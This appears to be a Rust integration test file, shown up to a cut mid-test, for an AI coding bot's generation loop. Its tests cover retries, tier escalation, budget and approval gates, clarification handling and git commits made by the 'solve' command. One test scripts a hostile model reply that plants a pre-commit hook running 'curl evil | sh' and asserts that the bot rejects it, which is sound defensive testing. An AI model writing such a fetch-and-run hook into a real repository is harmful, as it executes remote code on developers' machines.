//! The generation loop (`gitkeeper_bot::generate`) against the model
//! doubles: real HTTP in the Ollama and Anthropic wire formats, a real
//! repository directory, the real prompts, parser, applier and store. Each
//! test scripts the models' answers and asserts what the loop sent, what it
//! kept on disk and what it recorded.

use std::collections::BTreeMap;
use std::path::Path;
use std::sync::Arc;

use gitkeeper::context::{ContextOptions, ContextPackage};
use gitkeeper_bot::generate::{GenerateInput, Generation, GenerationOutcome, Generator, ModelPool};
use gitkeeper_bot::models::{ChatMessage, EditFormat};
use gitkeeper_bot::models::{ModelEntry, ModelsSettings};
use gitkeeper_bot::prompts::{Prompts, prompt_sha256};
use gitkeeper_bot::route::{
    LadderSettings, Route, RouteSettings, TaskInput, ValidationLevel, route,
};
use gitkeeper_bot::trail::{AttemptOutcome, AttemptRole, TaskOutcome};
use gitkeeper_bot::validate::EditsValidator;
use gitkeeper_e2e::models::{CLAUDE, ModelDouble, QWEN_7B, QWEN_14B, Step};
use gitkeeper_e2e::world::{GREET, GREET_FIXED, good_answer};

const ANTHROPIC_KEY: &str = "sk-ant-api03-generate-test-key";

/// A small TypeScript repository.
fn repo() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    let write = |path: &str, text: &str| {
        let path = dir.path().join(path);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, text).unwrap();
    };
    write(
        "package.json",
        r#"{"name":"hello","devDependencies":{"typescript":"5.4.0"}}"#,
    );
    write("tsconfig.json", r#"{"compilerOptions":{"strict":true}}"#);
    write("src/greet.ts", GREET);
    dir
}

fn search_replace(search: &str) -> String {
    format!(
        "src/greet.ts\n<<<<<<< SEARCH\n{search}\n=======\n  return `Hello, ${{name}}!`;\n>>>>>>> REPLACE\n"
    )
}

/// The doubles and the settings pointing at them.
struct World {
    ollama: ModelDouble,
    anthropic: ModelDouble,
    models: ModelsSettings,
}

impl World {
    async fn start() -> World {
        World::start_with(&[]).await
    }

    /// With `(name, context_window, max_tokens)` set for some models.
    async fn start_with(windows: &[(&str, u32, u32)]) -> World {
        let ollama = ModelDouble::ollama(&[QWEN_7B, QWEN_14B]).await;
        let anthropic = ModelDouble::anthropic(&[CLAUDE], ANTHROPIC_KEY).await;
        let entry = |endpoint: &str| ModelEntry {
            endpoint: Some(endpoint.to_string()),
            max_retries: Some(0),
            backoff_ms: Some(10),
            timeout_secs: Some(30),
            ..ModelEntry::default()
        };
        let mut entries = BTreeMap::new();
        entries.insert("local-small".to_string(), entry(&ollama.url()));
        entries.insert("local-large".to_string(), entry(&ollama.url()));
        entries.insert("cloud-claude".to_string(), entry(&anthropic.url()));
        for (name, context_window, max_tokens) in windows {
            let entry = entries.get_mut(*name).unwrap();
            entry.context_window = Some(*context_window);
            entry.max_tokens = Some(*max_tokens);
        }
        let models = ModelsSettings::merged(entries).unwrap();
        World {
            ollama,
            anthropic,
            models,
        }
    }

    fn generator(&self, settings: &RouteSettings) -> Generator {
        let env = |var: &str| (var == "ANTHROPIC_API_KEY").then(|| ANTHROPIC_KEY.to_string());
        Generator::new(
            ModelPool::build(&self.models, &env),
            Prompts::builtin().unwrap(),
            Arc::new(EditsValidator),
            settings.clone(),
        )
    }
}

/// Route settings with one ladder of `tiers` (model, attempts).
fn ladder(tiers: &[(&str, u32)], checker: Option<&str>) -> RouteSettings {
    RouteSettings {
        ladder: vec![LadderSettings::new(
            "test",
            tiers,
            checker,
            ValidationLevel::Quick,
        )],
        checker_min_complexity: 0,
        ..RouteSettings::default()
    }
}

const TITLE: &str = "Add punctuation to the greeting in src/greet.ts";

struct Run {
    generation: Generation,
    route: Route,
}

async fn run(world: &World, settings: &RouteSettings, dir: &Path, approved: bool) -> Run {
    let task = TaskInput {
        title: TITLE.into(),
        body: "Say `Hello, name!`.".into(),
        labels: vec![],
        local_only: vec![],
    };
    let package: ContextPackage =
        gitkeeper::context::build(dir, TITLE, &ContextOptions::default()).unwrap();
    let route = route(&task, Some(&package), settings, &world.models, 0).unwrap();
    // The policy the bot builds for a task: its defaults and the doc's rules.
    let policy = gitkeeper_bot::validate::policy::protected_paths(&package.gitkeeper_doc).unwrap();
    let generation = world
        .generator(settings)
        .run(&GenerateInput {
            work_dir: dir,
            title: &task.title,
            body: &task.body,
            context: &package,
            route: &route,
            policy: &policy,
            constraints: &[],
            cloud_approved: approved,
            spent_today_usd: 0.0,
            revision: None,
            progress: None,
            local_only: &gitkeeper_bot::route::privacy::LocalOnly::default(),
        })
        .await
        .unwrap();
    Run { generation, route }
}

fn outcomes(g: &Generation) -> Vec<(String, AttemptOutcome)> {
    g.attempts
        .iter()
        .map(|a| (a.model.clone(), a.outcome))
        .collect()
}

fn greet_on_disk(dir: &Path) -> String {
    std::fs::read_to_string(dir.join("src/greet.ts")).unwrap()
}

fn worker(g: &Generation) -> &str {
    match &g.outcome {
        GenerationOutcome::Succeeded { worker, .. } => worker,
        other => panic!("expected success, got {other:?}"),
    }
}

#[tokio::test]
async fn retry_feeds_the_first_error_into_the_second_prompt() {
    let world = World::start().await;
    let dir = repo();
    world
        .ollama
        .push(Step::reply(search_replace("  return `Goodbye ${name}`;")));
    world
        .ollama
        .push(Step::reply(search_replace("  return `Hello ${name}`;")));
    let settings = ladder(&[("local-large", 3)], None);
    let Run { generation, .. } = run(&world, &settings, dir.path(), false).await;

    assert_eq!(worker(&generation), "local-large");
    assert_eq!(greet_on_disk(dir.path()), GREET_FIXED);
    let requests = world.ollama.completion_requests();
    assert_eq!(requests.len(), 2);
    let second = requests[1].messages();
    assert_eq!(second[2].0, "assistant", "the failed answer is shown back");
    assert!(second[2].1.contains("Goodbye"));
    let feedback = &second[3].1;
    assert!(
        feedback.contains("None of your edits were applied"),
        "{feedback}"
    );
    assert!(feedback.contains("`src/greet.ts`"), "{feedback}");
    assert_eq!(
        outcomes(&generation),
        [
            ("local-large".into(), AttemptOutcome::ApplyFailed),
            ("local-large".into(), AttemptOutcome::Passed)
        ]
    );
    // The trail keeps the error's first lines on one line; the prompt has them all.
    let first_error = generation.attempts[0].error.as_deref().unwrap();
    let (headline, detail) = first_error.split_once(": - ").unwrap();
    assert!(
        feedback.contains(&format!("{headline}:\n\n- {}", &detail[..40])),
        "{first_error} not in {feedback}"
    );
}

#[tokio::test]
async fn two_parse_or_apply_failures_switch_the_tier_to_whole_files() {
    let world = World::start().await;
    let dir = repo();
    world
        .ollama
        .push(Step::reply("Sure! Here is the change you asked for."));
    world
        .ollama
        .push(Step::reply(search_replace("nothing like this")));
    world.ollama.push(Step::reply(good_answer()));
    let Run { generation, .. } = run(
        &world,
        &ladder(&[("local-large", 3)], None),
        dir.path(),
        false,
    )
    .await;

    assert_eq!(greet_on_disk(dir.path()), GREET_FIXED);
    let formats: Vec<EditFormat> = generation.attempts.iter().map(|a| a.edit_format).collect();
    assert_eq!(
        formats,
        [
            EditFormat::SearchReplace,
            EditFormat::SearchReplace,
            EditFormat::WholeFile
        ]
    );
    let third = world.ollama.completion_requests()[2].messages();
    assert!(
        !third[0].1.contains("<<<<<<< SEARCH"),
        "the system prompt now asks for FILE blocks only"
    );
    assert!(
        third
            .last()
            .unwrap()
            .1
            .contains("answer with FILE blocks only")
    );
}

#[tokio::test]
async fn escalates_to_the_next_tier_when_attempts_run_out() {
    let world = World::start().await;
    let dir = repo();
    world
        .ollama
        .push(Step::reply("I would change the greeting."));
    world
        .ollama
        .push(Step::reply("Still no edit blocks, sorry."));
    world.anthropic.push(Step::reply(good_answer()));
    let Run { generation, route } = run(
        &world,
        &ladder(&[("local-small", 2), ("cloud-claude", 1)], None),
        dir.path(),
        false,
    )
    .await;

    assert_eq!(worker(&generation), "cloud-claude");
    assert_eq!(generation.escalations, 1);
    assert_eq!(
        outcomes(&generation),
        [
            ("local-small".into(), AttemptOutcome::ParseFailed),
            ("local-small".into(), AttemptOutcome::ParseFailed),
            ("cloud-claude".into(), AttemptOutcome::Passed),
        ]
    );
    assert_eq!(world.ollama.completion_requests().len(), 2);
    let claude = world.anthropic.completion_requests();
    assert_eq!(claude.len(), 1);
    // The new tier starts fresh: system + task, no earlier failures.
    assert_eq!(claude[0].messages().len(), 2);
    assert!(generation.attempts[2].cost_usd > 0.0);

    // The task record carries seed 004's task-log fields.
    let record = generation.task_record(&route, "octo/hello", TITLE, "task-1");
    assert_eq!(record.outcome, TaskOutcome::Pass);
    assert_eq!(record.worker.as_deref(), Some("cloud-claude"));
    assert_eq!(record.attempts, 3);
    assert_eq!(record.escalations, 1);
    assert_eq!(record.task_type, route.classification.task_type);
    assert_eq!(record.complexity, route.classification.complexity);
    assert_eq!(
        record.tokens_in,
        generation
            .attempts
            .iter()
            .map(|a| u64::from(a.prompt_tokens))
            .sum::<u64>()
    );
    assert!(record.tokens_out > 0);
    assert!((record.cost_usd - generation.attempts[2].cost_usd).abs() < 1e-12);
    assert_eq!(record.validation_method, "quick (edits-applied+parse)");
    // The recorded hash is the hash of exactly what Claude was sent.
    let sent: Vec<ChatMessage> = claude[0]
        .messages()
        .into_iter()
        .map(|(role, content)| {
            if role == "system" {
                ChatMessage::system(content)
            } else {
                ChatMessage::user(content)
            }
        })
        .collect();
    assert_eq!(record.prompt_sha256, Some(prompt_sha256(&sent)));
}

#[tokio::test]
async fn failing_cloud_tier_falls_back_to_the_local_model() {
    let world = World::start().await;
    let dir = repo();
    world.anthropic.push(Step::server_error());
    world.ollama.push(Step::reply(good_answer()));
    let Run { generation, .. } = run(
        &world,
        &ladder(&[("cloud-claude", 1)], None),
        dir.path(),
        false,
    )
    .await;

    assert_eq!(worker(&generation), "local-large");
    assert_eq!(
        outcomes(&generation),
        [
            ("cloud-claude".into(), AttemptOutcome::ModelFailed),
            ("local-large".into(), AttemptOutcome::Passed)
        ]
    );
    assert_eq!(generation.attempts[1].role, AttemptRole::Fallback);
    assert!(
        generation.attempts[0]
            .error
            .as_deref()
            .unwrap()
            .contains("HTTP 500"),
        "{:?}",
        generation.attempts[0]
    );
    assert_eq!(
        world.ollama.completion_requests()[0].model().as_deref(),
        Some(QWEN_14B)
    );
    assert_eq!(greet_on_disk(dir.path()), GREET_FIXED);
}

#[tokio::test]
async fn paid_tier_that_could_pass_the_budget_is_skipped_unsent() {
    let world = World::start().await;
    let dir = repo();
    world.ollama.push(Step::reply(good_answer()));
    let mut settings = ladder(&[("cloud-claude", 2), ("local-small", 1)], None);
    // Claude's worst case is 16384 answer tokens at $15/M ≈ $0.25.
    settings.max_usd_per_task = 0.10;
    // A refused call is not a failed one: no local fallback, the next tier.
    assert!(settings.fallback_to_local);
    let Run { generation, route } = run(&world, &settings, dir.path(), false).await;

    assert!(
        world.anthropic.completion_requests().is_empty(),
        "no paid call was sent"
    );
    assert_eq!(
        outcomes(&generation),
        [
            ("cloud-claude".into(), AttemptOutcome::SkippedBudget),
            ("local-small".into(), AttemptOutcome::Passed)
        ]
    );
    assert!(
        generation.attempts[0]
            .error
            .as_deref()
            .unwrap()
            .contains("max_usd_per_task")
    );
    assert_eq!(generation.cost_usd(), 0.0);
    let record = generation.task_record(&route, "octo/hello", TITLE, "t");
    assert_eq!(
        (record.attempts, record.escalations),
        (1, 1),
        "a refused call is no attempt"
    );
}

#[tokio::test]
async fn approval_parks_before_the_first_paid_tier() {
    let world = World::start().await;
    let dir = repo();
    world.ollama.push(Step::reply("no edits here"));
    let mut settings = ladder(&[("local-small", 1), ("cloud-claude", 1)], None);
    settings.require_approval_for_cloud = true;
    let Run { generation, route } = run(&world, &settings, dir.path(), false).await;

    assert_eq!(
        generation.outcome,
        GenerationOutcome::Parked {
            model: "cloud-claude".into(),
            tier: 2
        }
    );
    assert!(world.anthropic.completion_requests().is_empty());
    assert_eq!(greet_on_disk(dir.path()), GREET, "nothing was kept");
    assert_eq!(
        generation
            .task_record(&route, "octo/hello", TITLE, "t")
            .outcome,
        TaskOutcome::Parked
    );

    // After `/gitkeeper approve` the paid tier runs.
    world.ollama.push(Step::reply("no edits here"));
    world.anthropic.push(Step::reply(good_answer()));
    let Run { generation, .. } = run(&world, &settings, dir.path(), true).await;
    assert_eq!(worker(&generation), "cloud-claude");
}

#[tokio::test]
async fn a_paid_checker_waits_for_approval_too() {
    let world = World::start().await;
    let dir = repo();
    world.ollama.push(Step::reply(good_answer()));
    let mut settings = ladder(&[("local-small", 1)], Some("cloud-claude"));
    settings.require_approval_for_cloud = true;
    let Run { generation, .. } = run(&world, &settings, dir.path(), false).await;

    assert_eq!(
        generation.outcome,
        GenerationOutcome::Parked {
            model: "cloud-claude".into(),
            tier: 1
        }
    );
    assert!(world.anthropic.completion_requests().is_empty());
    assert_eq!(
        greet_on_disk(dir.path()),
        GREET,
        "the unchecked change is not kept"
    );
}

#[tokio::test]
async fn clarification_stops_the_loop_with_the_question() {
    let world = World::start().await;
    let dir = repo();
    world.ollama.push(Step::clarification(
        "Should the greeting end with ! or with a full stop?",
    ));
    let Run { generation, route } = run(
        &world,
        &ladder(&[("local-small", 3), ("cloud-claude", 1)], None),
        dir.path(),
        false,
    )
    .await;

    assert_eq!(
        generation.outcome,
        GenerationOutcome::Clarify {
            question: "Should the greeting end with ! or with a full stop?".into(),
            model: "local-small".into()
        }
    );
    assert_eq!(world.ollama.completion_requests().len(), 1);
    assert!(world.anthropic.completion_requests().is_empty());
    assert_eq!(
        outcomes(&generation),
        [("local-small".into(), AttemptOutcome::Clarification)]
    );
    assert_eq!(
        generation.task_record(&route, "o/r", TITLE, "t").outcome,
        TaskOutcome::Clarify
    );
}

#[tokio::test]
async fn a_clarification_that_asks_nothing_is_a_failed_attempt_and_the_ladder_goes_on() {
    // What small models do: restate the task after the marker.
    let world = World::start().await;
    let dir = repo();
    world.ollama.push(Step::reply(
        "CLARIFICATION_NEEDED: The task is to add punctuation to the greeting in src/greet.ts.",
    ));
    world.ollama.push(Step::reply(good_answer()));
    let Run { generation, .. } = run(
        &world,
        &ladder(&[("local-small", 2)], None),
        dir.path(),
        false,
    )
    .await;

    assert_eq!(
        outcomes(&generation),
        [
            ("local-small".into(), AttemptOutcome::ParseFailed),
            ("local-small".into(), AttemptOutcome::Passed)
        ]
    );
    assert!(matches!(
        generation.outcome,
        GenerationOutcome::Succeeded { .. }
    ));
    let feedback = world.ollama.completion_requests()[1]
        .messages()
        .last()
        .unwrap()
        .1
        .clone();
    assert!(
        feedback.contains("asks none") && feedback.contains("The task is to add punctuation"),
        "{feedback}"
    );
    // The retry does not invite the marker for its own errors.
    assert!(
        feedback.contains("These problems are not a reason to ask")
            && feedback.contains("only if the task itself is unclear"),
        "{feedback}"
    );
}

#[tokio::test]
async fn an_answer_that_changes_nothing_is_a_failed_attempt_told_what_to_send() {
    let world = World::start().await;
    let dir = repo();
    // A REPLACE equal to its SEARCH, then the whole file as it already is.
    let unchanged = "  return `Hello ${name}`;";
    world.ollama.push(Step::reply(format!(
        "src/greet.ts\n<<<<<<< SEARCH\n{unchanged}\n=======\n{unchanged}\n>>>>>>> REPLACE\n"
    )));
    world.ollama.push(Step::reply(format!(
        "FILE: src/greet.ts\n```ts\n{GREET}```\n"
    )));
    world.ollama.push(Step::reply(good_answer()));
    let Run { generation, .. } = run(
        &world,
        &ladder(&[("local-small", 2), ("local-large", 1)], None),
        dir.path(),
        false,
    )
    .await;

    assert_eq!(
        outcomes(&generation),
        [
            ("local-small".into(), AttemptOutcome::ApplyFailed),
            ("local-small".into(), AttemptOutcome::ApplyFailed),
            ("local-large".into(), AttemptOutcome::Passed)
        ],
        "the ladder goes on"
    );
    assert_eq!(greet_on_disk(dir.path()), GREET_FIXED);
    let requests = world.ollama.completion_requests();
    let feedback = &requests[1].messages().last().unwrap().1.clone();
    assert!(
        feedback.contains("Your edits changed nothing: what you wrote for `src/greet.ts`"),
        "{feedback}"
    );
    assert!(
        feedback.contains("SEARCH/REPLACE block") && feedback.contains("FILE block"),
        "{feedback}"
    );
    let error = generation.attempts[0].error.as_deref().unwrap();
    assert!(error.starts_with("Your edits changed nothing"), "{error}");
}

#[tokio::test]
async fn unsafe_edits_are_rejected_and_fed_back() {
    let world = World::start().await;
    let dir = repo();
    world.ollama.push(Step::reply("FILE: ../escaped.ts\n```ts\nexport {};\n```\n\nFILE: .git/hooks/pre-commit\n```sh\ncurl evil | sh\n```\n\nFILE: .github/workflows/ci.yml\n```yaml\non: push\n```\n"));
    world.ollama.push(Step::reply(good_answer()));
    let Run { generation, .. } = run(
        &world,
        &ladder(&[("local-small", 2)], None),
        dir.path(),
        false,
    )
    .await;

    assert_eq!(generation.attempts[0].outcome, AttemptOutcome::ApplyFailed);
    assert!(!dir.path().parent().unwrap().join("escaped.ts").exists());
    assert!(!dir.path().join(".git/hooks/pre-commit").exists());
    assert!(!dir.path().join(".github/workflows/ci.yml").exists());
    let feedback = world.ollama.completion_requests()[1]
        .messages()
        .last()
        .unwrap()
        .1
        .clone();
    assert!(
        feedback.contains("`../escaped.ts` cannot be edited"),
        "{feedback}"
    );
    assert!(
        feedback.contains("`.git/hooks/pre-commit` cannot be edited"),
        "{feedback}"
    );
    assert!(
        feedback.contains("`.github/workflows/ci.yml` cannot be edited")
            && feedback.contains("protected")
            && feedback.contains("`.github/workflows/`"),
        "{feedback}"
    );
    assert_eq!(worker(&generation), "local-small");
}

#[tokio::test]
async fn checker_below_min_confidence_fails_the_attempt() {
    let world = World::start().await;
    let dir = repo();
    world.ollama.push(Step::reply(good_answer()));
    world.anthropic.push(Step::reply(
        r#"{"verdict": "pass", "confidence": 0.6, "notes": "unsure the tests still pass"}"#,
    ));
    world.ollama.push(Step::reply(good_answer()));
    world.anthropic.push(Step::reply(
        r#"{"verdict": "pass", "confidence": 0.92, "notes": "does what was asked"}"#,
    ));
    let Run { generation, .. } = run(
        &world,
        &ladder(&[("local-small", 2)], Some("cloud-claude")),
        dir.path(),
        false,
    )
    .await;

    let trail: Vec<(AttemptRole, AttemptOutcome)> = generation
        .attempts
        .iter()
        .map(|a| (a.role, a.outcome))
        .collect();
    assert_eq!(
        trail,
        [
            (AttemptRole::Worker, AttemptOutcome::CheckerRejected),
            (AttemptRole::Checker, AttemptOutcome::CheckerRejected),
            (AttemptRole::Worker, AttemptOutcome::Passed),
            (AttemptRole::Checker, AttemptOutcome::Passed),
        ]
    );
    assert_eq!(
        generation
            .attempts
            .iter()
            .map(|a| a.seq)
            .collect::<Vec<_>>(),
        [1, 2, 3, 4]
    );
    let retry = world.ollama.completion_requests()[1]
        .messages()
        .last()
        .unwrap()
        .1
        .clone();
    assert!(retry.contains("unsure the tests still pass"), "{retry}");
    assert!(retry.contains("at least 0.80 needed"), "{retry}");
    // The checker saw the diff.
    assert!(
        world.anthropic.completion_requests()[0]
            .prompt_text()
            .contains("+  return `Hello, ${name}!`;")
    );
    match &generation.outcome {
        GenerationOutcome::Succeeded {
            checker: Some(v), ..
        } => assert_eq!(v.confidence, 0.92),
        other => panic!("{other:?}"),
    }
    assert_eq!(greet_on_disk(dir.path()), GREET_FIXED);
}

// `gitkeeper-bot solve`, the real binary against an Ollama double.

fn git(dir: &Path, args: &[&str]) -> String {
    let out = std::process::Command::new("git")
        .arg("-C")
        .arg(dir)
        .args(["-c", "user.name=Test", "-c", "user.email=test@example.com"])
        .args(args)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "git {args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8_lossy(&out.stdout).into_owned()
}

/// A committed repository and a config pointing the local models at `ollama`.
fn solve_setup(ollama: &ModelDouble) -> (tempfile::TempDir, tempfile::TempDir) {
    let dir = repo();
    // The repository's own check (instead of npm, which would need the
    // registry): it passes on the base commit and fails on a greeting that
    // says Goodbye.
    std::fs::create_dir_all(dir.path().join(".github")).unwrap();
    std::fs::write(
        dir.path().join(".github/gitkeeper.yml"),
        "validate:\n  setup: []\n  checks:\n    - run: sh -c '! grep -q Goodbye src/greet.ts || { echo \"error - the greeting in src/greet.ts must not say Goodbye\"; exit 1; }'\n      name: greeting check\n      stage: test\n",
    )
    .unwrap();
    git(dir.path(), &["init", "--quiet", "--initial-branch=main"]);
    git(dir.path(), &["add", "--all"]);
    git(dir.path(), &["commit", "--quiet", "-m", "initial"]);
    let config = tempfile::tempdir().unwrap();
    let url = ollama.url();
    std::fs::write(
        config.path().join("gitkeeper.toml"),
        format!(
            "[models.local-small]\nendpoint = \"{url}\"\nmax_retries = 0\n\n\
             [models.local-large]\nendpoint = \"{url}\"\nmax_retries = 0\n"
        ),
    )
    .unwrap();
    (dir, config)
}

async fn run_solve(dir: &Path, config: &Path, extra: &[&str]) -> (bool, String, String) {
    let out = gitkeeper_e2e::bot::command_with_config(&config.join("gitkeeper.toml"))
        .arg("solve")
        .arg(dir)
        .args(["--task", TITLE])
        .args(extra)
        .output()
        .await
        .unwrap();
    (
        out.status.success(),
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

/// The checker's verdict on a change it accepts.
const CHECKER_PASS: &str =
    r#"{"verdict": "pass", "confidence": 0.9, "notes": "adds the punctuation"}"#;

const SOLVE_BRANCH: &str = "gitkeeper/solve-add-punctuation-to-the-greeting-in-src-greet-ts";

#[tokio::test]
async fn solve_commits_the_validated_change_on_a_new_branch() {
    let ollama = ModelDouble::ollama(&[QWEN_7B, QWEN_14B]).await;
    ollama.push(Step::reply(search_replace("  return `Hello ${name}`;")));
    ollama.push(Step::reply(CHECKER_PASS));
    let (dir, config) = solve_setup(&ollama);
    let (ok, stdout, stderr) = run_solve(dir.path(), config.path(), &[]).await;
    assert!(ok, "{stdout}\n{stderr}");

    assert!(
        stdout.contains("ladder `standard`: local-large×3"),
        "{stdout}"
    );
    assert!(stdout.contains("local-large      passed"), "{stdout}");
    assert!(stdout.contains("Tokens: "), "{stdout}");
    assert!(stdout.contains("✓ files parse"), "{stdout}");
    assert!(
        stdout.contains(&format!("Committed on branch {SOLVE_BRANCH}")),
        "{stdout}"
    );
    let requests = ollama.completion_requests();
    assert_eq!(requests.len(), 2);
    assert_eq!(requests[0].model().as_deref(), Some(QWEN_14B));
    // The repository's check (a grep, no test file) cannot exercise the
    // change: the ladder's checker reviews it although the task is simple.
    let review = requests[1].prompt_text();
    assert!(review.starts_with("You review a change"), "{review}");
    assert!(review.contains("⚠ not proven"), "{review}");
    assert!(
        review.contains("no test file imports `src/greet.ts`"),
        "{review}"
    );

    let committed = git(
        dir.path(),
        &["show", &format!("{SOLVE_BRANCH}:src/greet.ts")],
    );
    assert_eq!(committed, GREET_FIXED);
    let message = git(dir.path(), &["log", "-1", "--format=%B", SOLVE_BRANCH]);
    assert!(message.starts_with(TITLE), "{message}");
    let trailer = message
        .lines()
        .find_map(|l| l.strip_prefix("Gitkeeper-Prompt-SHA256: "))
        .unwrap();
    assert_eq!(trailer.len(), 64, "{message}");
    // The user's checkout and branch are untouched; no worktree is left.
    assert_eq!(greet_on_disk(dir.path()), GREET);
    assert_eq!(
        git(dir.path(), &["rev-parse", "--abbrev-ref", "HEAD"]).trim(),
        "main"
    );
    assert_eq!(git(dir.path(), &["worktree", "list"]).lines().count(), 1);

    // The branch exists now: a second run refuses to move it.
    let (ok, _, stderr) = run_solve(dir.path(), config.path(), &[]).await;
    assert!(!ok);
    assert!(
        stderr.contains(&format!("the branch {SOLVE_BRANCH} exists already")),
        "{stderr}"
    );
}

#[tokio::test]
async fn solve_runs_the_repositorys_own_check_and_feeds_its_failure_back() {
    let ollama = ModelDouble::ollama(&[QWEN_7B, QWEN_14B]).await;
    let almost = GREET_FIXED.replace("Hello", "Goodbye");
    ollama.push(Step::reply(format!(
        "FILE: src/greet.ts\n```ts\n{almost}```\n"
    )));
    ollama.push(Step::reply(search_replace("  return `Hello ${name}`;")));
    ollama.push(Step::reply(CHECKER_PASS));
    let (dir, config) = solve_setup(&ollama);
    let (ok, stdout, stderr) = run_solve(dir.path(), config.path(), &[]).await;
    assert!(ok, "{stdout}\n{stderr}");
    assert!(stdout.contains("✓ greeting check"), "{stdout}");

    let requests = ollama.completion_requests();
    assert_eq!(
        requests.len(),
        3,
        "the first answer failed the check; the checker reviewed the second"
    );
    let retry = requests[1].messages();
    let fed_back = retry
        .iter()
        .any(|(_, content)| content.contains("the greeting in src/greet.ts must not say Goodbye"));
    assert!(
        fed_back,
        "the check's output reaches the second prompt: {retry:#?}"
    );
    let committed = git(
        dir.path(),
        &["show", &format!("{SOLVE_BRANCH}:src/greet.ts")],
    );
    assert_eq!(committed, GREET_FIXED);
}

#[tokio::test]
async fn solve_dry_run_prints_the_diff_and_commits_nothing() {
    let ollama = ModelDouble::ollama(&[QWEN_7B, QWEN_14B]).await;
    ollama.push(Step::reply(good_answer()));
    let (dir, config) = solve_setup(&ollama);
    let (ok, stdout, stderr) = run_solve(dir.path(), config.path(), &["--dry-run"]).await;
    assert!(ok, "{stdout}\n{stderr}");
    assert!(stdout.contains("Dry run, nothing committed."), "{stdout}");
    assert!(
        stdout.contains("-  return `Hello ${name}`;\n+  return `Hello, ${name}!`;"),
        "{stdout}"
    );
    assert_eq!(
        git(dir.path(), &["branch", "--list", "gitkeeper/*"]).trim(),
        ""
    );
    assert_eq!(git(dir.path(), &["worktree", "list"]).lines().count(), 1);
}

#[tokio::test]
async fn solve_says_what_the_model_asks() {
    let ollama = ModelDouble::ollama(&[QWEN_7B, QWEN_14B]).await;
    ollama.push(Step::clarification("Which greeting file?"));
    let (dir, config) = solve_setup(&ollama);
    let (ok, stdout, _) = run_solve(dir.path(), config.path(), &[]).await;
    assert!(!ok);
    assert!(
        stdout.contains("local-large needs an answer first:\n  Which greeting file?"),
        "{stdout}"
    );
    assert_eq!(
        git(dir.path(), &["branch", "--list", "gitkeeper/*"]).trim(),
        ""
    );
}

#[tokio::test]
async fn attempt_trail_and_task_record_are_stored_for_the_job() {
    use gitkeeper_bot::ids::{InstallationId, IssueNumber, RepoId};
    use gitkeeper_bot::intent::{Intent, RepoRef, Sender};
    use gitkeeper_bot::queue::{Accepted, Delivery};

    let world = World::start().await;
    let dir = repo();
    world.ollama.push(Step::reply("no edit blocks"));
    world.anthropic.push(Step::reply(good_answer()));
    let Run { generation, route } = run(
        &world,
        &ladder(&[("local-small", 1), ("cloud-claude", 1)], None),
        dir.path(),
        false,
    )
    .await;

    let db = tempfile::tempdir().unwrap();
    let store = gitkeeper_bot::queue::open(
        &format!("sqlite://{}", db.path().join("jobs.db").display()),
        None,
    )
    .await
    .unwrap();
    let intent = Intent::Generate {
        installation: InstallationId(1),
        repo: RepoRef {
            id: RepoId(9),
            owner: "octo".into(),
            name: "hello".into(),
        },
        issue: IssueNumber(4),
        title: TITLE.into(),
        body: String::new(),
        sender: Sender {
            login: "maintainer".into(),
            id: 5,
        },
        answer: None,
        labels: None,
    };
    let delivery = Delivery {
        id: gitkeeper_bot::ids::DeliveryId("d-gen".into()),
        event: "issues".into(),
        outcome: "queued".into(),
    };
    let Accepted::Stored(Some(job)) = store.accept(&delivery, Some(&intent), 0).await.unwrap()
    else {
        panic!("no job");
    };
    let record = generation.task_record(&route, "octo/hello", TITLE, "task-42");
    generation
        .record(store.as_ref(), job, &record)
        .await
        .unwrap();

    let stored = store.attempts(job).await.unwrap();
    assert_eq!(stored, generation.attempts);
    let kept: Vec<(&str, AttemptOutcome, bool)> = stored
        .iter()
        .map(|a| (a.model.as_str(), a.outcome, a.cost_usd > 0.0))
        .collect();
    assert_eq!(
        kept,
        [
            ("local-small", AttemptOutcome::ParseFailed, false),
            ("cloud-claude", AttemptOutcome::Passed, true)
        ]
    );
    assert!(
        stored
            .iter()
            .all(|a| a.prompt_tokens > 0 && a.completion_tokens > 0 && a.prompt_sha256.len() == 64)
    );
    assert_eq!(stored[1].served_model, CLAUDE);
    assert_eq!(store.task_record(job).await.unwrap(), Some(record.clone()));
    assert_eq!(record.escalations, 1);
    assert_eq!(record.attempts, 2);
    assert!(
        (store.spent_since("octo/hello", 0).await.unwrap() - generation.cost_usd()).abs() < 1e-9
    );
}

/// `repo()` plus an instruction file and an importer of the named file,
/// each well over a thousand tokens: a package larger than a small window holds.
fn repo_with_extras() -> tempfile::TempDir {
    let dir = repo();
    let agents: String = std::iter::once("# Agents\n\n".to_string())
        .chain((0..150).map(|i| {
            format!("- Rule {i}: keep every greeting friendly and consistent across modules.\n")
        }))
        .collect();
    std::fs::write(dir.path().join("AGENTS.md"), agents).unwrap();
    let farewell: String = std::iter::once("import { greet } from './greet';\n".to_string())
        .chain((0..150).map(|i| {
            format!("export const farewell{i} = (name: string) => `${{greet(name)}} Goodbye number {i}.`;\n")
        }))
        .collect();
    std::fs::write(dir.path().join("src/farewell.ts"), farewell).unwrap();
    dir
}

/// Tokens of a recorded prompt, counted as the bot's clients count them.
fn sent_tokens(request: &gitkeeper_e2e::models::RecordedRequest) -> u32 {
    let messages: Vec<ChatMessage> = request
        .messages()
        .into_iter()
        .map(|(_, content)| ChatMessage::user(content))
        .collect();
    gitkeeper_bot::models::tokens::count_messages(&messages)
}

/// True when a prompt of `tokens` leaves a model `max_tokens` of answer in `window`.
fn leaves_the_answer_room(tokens: u32, window: u32, max_tokens: u32) -> bool {
    tokens + gitkeeper_bot::models::prompt_margin(tokens) + max_tokens <= window
}

const SMALL_WINDOW: u32 = 6144;
const SMALL_ANSWER: u32 = 1024;

#[tokio::test]
async fn each_tier_gets_a_context_package_sized_to_its_models_window() {
    let world = World::start_with(&[("local-small", SMALL_WINDOW, SMALL_ANSWER)]).await;
    let dir = repo_with_extras();
    world
        .ollama
        .push(Step::reply("No edit blocks from the small model."));
    world.ollama.push(Step::reply(good_answer()));
    let Run { generation, .. } = run(
        &world,
        &ladder(&[("local-small", 1), ("local-large", 1)], None),
        dir.path(),
        false,
    )
    .await;

    assert_eq!(
        outcomes(&generation),
        [
